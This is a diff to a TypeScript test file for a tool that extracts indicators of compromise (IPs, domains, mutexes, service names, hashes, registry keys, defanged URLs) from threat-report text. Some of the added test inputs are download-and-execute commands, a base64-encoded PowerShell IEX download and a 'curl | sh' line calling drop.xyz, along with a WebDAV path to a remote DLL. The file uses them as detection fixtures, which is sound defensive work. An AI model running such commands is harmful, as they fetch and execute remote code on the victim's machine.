@@ -12,6 +12,12 @@ function grouped(hash: string, size: number): string {
   return (hash.match(new RegExp(`.{${size}}`, "g")) ?? []).join(" ");
 }
 
+const ssdeep =
+  "96:s4Ud1Lj96tHHlZDrwciQmA+4uy1I0G4HYuL8N3TzS8QsO/wqWXLcMSx:sF1LjEtHHlZDrJzrhuyZvHYm8tKp/RWO";
+const wide = Buffer.from("IEX (Download 'http://drop.xyz/a.ps1')", "utf16le").toString("base64");
+const narrow = Buffer.from("curl -s http://drop.xyz/b | sh\n").toString("base64");
+const token = Buffer.from('{"iss":"https://login.example.net/1"}').toString("base64");
+
 describe("values are found as programs, viewers and word processors lay them out", () => {
   const cases: [string, string[]][] = [
     ["mail admin\\@leak-site\\.cc", ["email admin@leak-site.cc"]],
@@ -84,6 +90,59 @@ describe("values are found as programs, viewers and word processors lay them out
     ["Subject: C=RU, L=Moscow, O=Foo, CN=LLC Progress Soft", ["signer LLC Progress Soft"]],
     ['Subject: CN="XL Tech, Inc.", O="XL Tech, Inc.", C=UA', ["signer XL Tech, Inc"]],
     ["Signer: Zhu Manufacturing Co., Ltd. Serial: none", ["signer Zhu Manufacturing Co., Ltd"]],
+    ["to +45.9.148.1+ and `+45.9.0.0/16+`.", ["ipv4 45.9.148.1", "cidr 45.9.0.0/16"]],
+    ["* +login-check.top+ in use", ["domain login-check.top"]],
+    ["**cpe:/a:acme:box:1.2**", ["cpe cpe:/a:acme:box:1.2"]],
+    [`ssdeep: +${ssdeep}+`, [`ssdeep ${ssdeep}`]],
+    ["the mutex named `+Global\\ab_1+` and **cd_2**", ["mutex Global\\ab_1"]],
+    ['{"note":"the mutex \\"Local\\\\SM0_1\\" is odd"}', ["mutex Local\\SM0_1"]],
+    [
+      "(mutex: Local\\SM0_1), <p>mutex: <code>QX_7</code></p>",
+      ["mutex Local\\SM0_1", "mutex QX_7"],
+    ],
+    ["a mutex named\n> Global\\ab_1 first", ["mutex Global\\ab_1"]],
+    ["the service name is NetDiagSvc.", ["service NetDiagSvc"]],
+    ["They created the service MSUpdSvc64 there.", ["service MSUpdSvc64"]],
+    ["It installs a new service `WinHlp_svc`.", ["service WinHlp_svc"]],
+    ["It created the service desk ticket and removed the service account svc_backup.", []],
+    ["They added a service in 2024 and stopped the service CVE4U-2.", ["service CVE4U-2"]],
+    ["the service name is not known, the service names of the host", []],
+    [
+      "User-Agent: <code>Wget/1.2</code>; UA: Wget/1.3\u00a0x",
+      ["user-agent Wget/1.2", "user-agent Wget/1.3"],
+    ],
+    [
+      "\\\\drop.example.net@SSL\\DavWWWRoot\\x.dll",
+      ["unc-path \\\\drop.example.net@SSL\\DavWWWRoot\\x.dll"],
+    ],
+    [
+      "UA: Mozilla/5.0 (X11) Gecko/<digits>.<digits> X/7.0",
+      ["user-agent Mozilla/5.0 (X11) Gecko/<digits>.<digits> X/7.0"],
+    ],
+    ["<td>/etc/cron.d/upd</td> a->/etc/cron.d/no", ["unix-path /etc/cron.d/upd"]],
+    [
+      "HKLM\\Software\\Runを使用した。C:\\x\\報告書.exe",
+      ["registry-key HKLM\\Software\\Run", "windows-path C:\\x\\報告書.exe"],
+    ],
+    [`JA3 client hash: ${md5}`, [`ja3 ${md5}`]],
+    [`the imphash\n> ${md5}`, [`imphash ${md5}`]],
+    [`MD5 | SHA-1 | Imphash\n${md5}`, [`md5 ${md5}`]],
+    [
+      "Serial Number:\n        0c:59:d4:65:80:f0:39:af:2c:4a:b6:ba:0f:fe:d1:97",
+      ["certificate-serial 0c59d46580f039af2c4ab6ba0ffed197"],
+    ],
+    ["Subject: CN=Li Tech Co., Ltd., O=Hangzhou, C=CN", ["signer Li Tech Co., Ltd"]],
+    ["hxxp://drop(.)zone(.)biz/gate(.)php?a={.}", ["url http://drop.zone.biz/gate.php?a="]],
+    ["2a0a[:]4740[:][:]77 seen", ["ipv6 2a0a:4740::77"]],
+    [
+      "\u200eCVE-2023-1234\u200f, \u202a2a0a:4740::77\u202c \u2066QakBot\u2069 \u200e3c:22:fb:9a:01:7e",
+      ["cve CVE-2023-1234", "ipv6 2a0a:4740::77", "malware QakBot", "mac 3c:22:fb:9a:01:7e"],
+    ],
+    [
+      `powershell -enc ${wide}; echo ${narrow} | base64 -d`,
+      ["url http://drop.xyz/a.ps1", "url http://drop.xyz/b"],
+    ],
+    [`Bearer ${token}`, []],
   ];
   test.each(cases)("%s", (text, wanted) => {
     const found = extract(text);
